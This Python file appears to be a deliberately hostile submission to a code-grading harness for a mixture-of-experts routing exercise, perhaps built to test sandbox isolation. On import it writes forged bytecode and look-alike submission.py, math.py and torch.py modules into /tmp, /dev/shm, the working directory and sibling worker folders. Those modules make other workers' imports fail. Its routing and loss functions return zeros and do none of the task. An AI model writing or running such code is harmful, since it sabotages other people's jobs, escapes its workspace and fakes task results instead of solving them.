"""Attack (classmates are reachable): plant bytecode and look-alike modules wherever the next
classmate's worker might import from, and rewrite every results file and sibling worker folder."""
# quizgen: question 52
import glob
import importlib.util
import os

import torch

POISON = "def route_top_k(*a, **k):\n    raise RuntimeError('poisoned by a classmate')\n"


def _plant():
    folders = {os.getcwd(), "/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp"), "__CLASS_DIR__"}
    folders |= set(glob.glob("/tmp/quizgen-workers-*/*")) | set(glob.glob(os.path.join(os.getcwd(), "..", "*")))
    code = compile(POISON, "submission.py", "exec")
    import marshal

    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
    for folder in folders:
        for name, data in (("__pycache__/submission.cpython-311.pyc", pyc), ("submission.py", POISON.encode()),
                           ("math.py", POISON.encode()), ("torch.py", POISON.encode()), ("qz-attack-poison.txt", b"x")):
            path = os.path.join(folder, name)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "wb") as handle:
                    handle.write(data)
            except OSError:
                pass


_plant()


def route_top_k(router_logits, k, renormalize):
    _plant()
    T = router_logits.shape[0]
    return torch.zeros(T, k, dtype=router_logits.dtype), torch.zeros(T, k, dtype=torch.int64)


def load_balancing_loss(router_logits, k):
    return torch.zeros((), dtype=router_logits.dtype)


def moe_forward(x, gate_w, w_in, w_out, k, renormalize):
    return torch.zeros_like(x)
